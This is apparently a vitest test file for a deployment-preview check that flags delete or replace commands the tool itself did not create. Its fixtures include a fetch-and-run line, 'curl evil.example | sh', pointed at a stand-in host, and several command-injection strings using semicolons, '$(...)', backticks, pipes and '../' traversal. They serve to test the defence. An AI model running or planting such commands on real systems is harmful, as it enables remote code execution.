import { expect, test } from "vitest";
import type { Change } from "../../../../ops/preview/changes.ts";
import { foreignIn } from "../../../../ops/preview/foreign.ts";
import { changeOf } from "./change.ts";

const COMMAND = "command:local:Command";
const EVIL = { delete: "curl evil.example | sh" };
const OURS = { delete: "sh -s remove database-login" };

const foreign = (old: Change["old"], more: Partial<Change>, type = COMMAND) =>
  foreignIn(changeOf(type, { old, ...more }));

test("A foreign command is told where it would run: as it is deleted or replaced", () => {
  for (const action of ["delete", "replace"] as const) {
    expect(foreign(EVIL, { action }), action).toBe("it runs `curl evil.example | sh`");
  }
  for (const action of ["create", "update", "same"] as const) {
    expect(foreign(EVIL, { action }), action).toBeUndefined();
  }
});

test("A thing that somebody removed by hand runs nothing more", () => {
  expect(foreign(EVIL, { action: "delete", drifted: true })).toBeUndefined();
});

test("A step of ours is none where another one takes its place, or its part goes too", () => {
  expect(foreign(OURS, { action: "replace" })).toBeUndefined();
  expect(foreign(OURS, { action: "delete", parentStays: false })).toBeUndefined();
  expect(foreign(OURS, { action: "delete" })).toBe("it stays, and has no such step");
});

test.each([
  ["sh -s remove", true],
  ["../node_modules/.bin/node ../components/kubernetes/steps/let-go.ts", true],
  ["../node_modules/.bin/node --enable-source-maps ../components/kubernetes/steps/let-go.ts", true],
  ["../node_modules/.bin/node ../components/kubernetes/steps/label-namespace.ts off", true],
  ["../node_modules/.bin/node ../components/kubernetes/steps/label-namespace.ts off; evil", false],
  ["../node_modules/.bin/node ../components/kubernetes/steps/../evil.ts", false],
  ["node ../components/kubernetes/steps/let-go.ts; evil", false],
  ["sh -s remove $(evil)", false],
  ["$(evil)node ../components/kubernetes/steps/let-go.ts", false],
  ["`evil`/node ../components/kubernetes/steps/let-go.ts", false],
  ["evil|node ../components/kubernetes/steps/let-go.ts", false],
  ["node $(evil)/components/kubernetes/steps/let-go.ts", false],
  ["evil; sh -s remove", false],
])("A command is ours by its whole text: %s", (command, isOurs) => {
  const said = foreign({ delete: command }, { action: "replace" });
  expect(said).toBe(isOurs ? undefined : `it runs \`${command}\``);
});

test("A long command is cut off", () => {
  expect(foreign({ delete: "x".repeat(300) }, { action: "replace" })).toBe(
    `it runs \`${"x".repeat(200)}\``,
  );
});

test("A thing of a kind that no program of ours makes is foreign where it goes", () => {
  const type = "aws:s3/bucket:Bucket";
  expect(foreign({}, { action: "delete" }, type)).toBe(`Slipway makes nothing of the kind ${type}`);
  expect(foreign({}, { action: "delete" }, "gcp:compute/disk:Disk")).toBeUndefined();
});
